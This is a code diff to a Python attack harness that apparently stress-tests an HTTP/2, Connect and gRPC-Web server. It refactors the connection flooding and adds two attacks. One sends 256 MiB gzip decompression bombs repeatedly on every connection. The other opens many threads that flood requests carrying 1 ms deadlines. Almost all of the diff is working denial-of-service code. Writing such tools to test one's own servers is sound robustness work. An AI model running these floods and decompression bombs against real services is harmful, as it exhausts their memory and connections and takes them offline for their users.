@@ -14,11 +14,14 @@ import socket
 import struct
 import sys
 import threading
+import zlib
 from collections import Counter
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, suppress
 from dataclasses import dataclass, field
+from http.client import HTTPConnection
+from itertools import cycle
 from pathlib import Path
 
 from hpack import Encoder
@@ -108,29 +111,37 @@ class Attack:
         """Tell that what was to be set up is, and that the attack goes on."""
         print("stands", flush=True)
 
-    def flood(self, begins: bytes, again: bytes, rounds: int = 20) -> None:
-        """Open connections that send this and then that again and again, as fast as can be."""
-        workers = [threading.Thread(target=self._flood, args=(begins, again, rounds)) for _ in range(FLOODING)]
+    def by_connections(self, use: Callable[[socket.socket], None]) -> None:
+        """Open connections and use them until the attack is over, new ones after those that the server closes."""
+
+        def attack() -> None:
+            while not self.over.is_set():
+                with suppress(OSError), connect(self.address) as connection:
+                    self.done["connections"] += 1
+                    use(connection)
+
+        workers = [threading.Thread(target=attack) for _ in range(FLOODING)]
         for worker in workers:
             worker.start()
         self.stands()
         for worker in workers:
             worker.join()
 
-    def _flood(self, begins: bytes, again: bytes, rounds: int) -> None:
-        while not self.over.is_set():
-            # The server may close what floods it.
-            with suppress(OSError), connect(self.address) as connection:
-                self.done["connections"] += 1
-                connection.sendall(opening() + begins)
-                for _ in range(rounds):
-                    if self.over.is_set():
-                        break
-                    connection.sendall(again)
-                    self.done["rounds"] += 1
-                    # What isn't read would have the server close the connection for that alone.
-                    while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
-                        pass
+    def flood(self, begins: bytes, again: bytes, rounds: int = 20) -> None:
+        """Open connections that send this and then that again and again, as fast as can be."""
+
+        def use(connection: socket.socket) -> None:
+            connection.sendall(opening() + begins)
+            for _ in range(rounds):
+                if self.over.is_set():
+                    break
+                connection.sendall(again)
+                self.done["rounds"] += 1
+                # What isn't read would have the server close the connection for that alone.
+                while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
+                    pass
+
+        self.by_connections(use)
 
 
 def slow_bodies(attack: Attack) -> None:
@@ -304,6 +315,70 @@ def headers_bomb(attack: Attack) -> None:
     attack.flood(begins, serialized(*bombs), rounds=1)
 
 
+BOMB_MIB = 256
+
+
+def bomb() -> bytes:
+    """Give a few bytes of gzip that unpack to a great many."""
+    packer, zeros = zlib.compressobj(9, wbits=31), bytes(1024 * 1024)
+    return b"".join(packer.compress(zeros) for _ in range(BOMB_MIB)) + packer.flush()
+
+
+def bombs(attack: Attack) -> None:
+    """Send bombs of 256 MiB in gzip, in Connect and gRPC-Web, one after the other on each connection."""
+    packed = bomb()
+    requests = (
+        ({"content-type": "application/json", "content-encoding": "gzip"}, packed),
+        ({"content-type": "application/grpc-web+proto", "grpc-encoding": "gzip"}, enveloped(packed, compressed=True)),
+    )
+
+    def use(connection: socket.socket) -> None:
+        client = HTTPConnection(attack.address)
+        client.sock = connection
+        for headers, body in cycle(requests):
+            if attack.over.is_set():
+                break
+            client.request("POST", GET_SUMMARY, body, headers)
+            client.getresponse().read()
+            attack.done["bombs"] += 1
+
+    attack.by_connections(use)
+
+
+def short_deadlines(attack: Attack) -> None:
+    """Send whole requests with a deadline of 1 ms, 20 at once on each connection, and hear what becomes of them."""
+    block = header_block(GET_ACCOUNT, "application/grpc", attack.token, grpc_timeout="1m")
+    at_once = 20
+
+    def requests(first: int) -> bytes:
+        frames: list[Frame] = []
+        for stream in range(first, first + 2 * at_once, 2):
+            body = DataFrame(stream, enveloped(b""), flags=["END_STREAM"])
+            frames += [HeadersFrame(stream, block, flags=["END_HEADERS"]), body]
+        return serialized(*frames)
+
+    rounds = [requests(first) for first in range(1, 2000, 2 * at_once)]
+
+    def use(connection: socket.socket) -> None:
+        connection.sendall(opening())
+        answers = connection.makefile("rb")
+        for asked in rounds:
+            if attack.over.is_set():
+                break
+            connection.sendall(asked)
+            left = at_once
+            while left:
+                head = answers.read(9)
+                if not head:
+                    return
+                frame, length = Frame.parse_frame_header(memoryview(head))
+                answers.read(length)
+                left -= "END_STREAM" in frame.flags
+            attack.done["requests"] += at_once
+
+    attack.by_connections(use)
+
+
 ATTACKS: dict[str, Callable[[Attack], None]] = {
     attack.__name__: attack
     for attack in (
@@ -321,6 +396,8 @@ ATTACKS: dict[str, Callable[[Attack], None]] = {
         pings,
         empty_data,
         headers_bomb,
+        bombs,
+        short_deadlines,
     )
 }
 
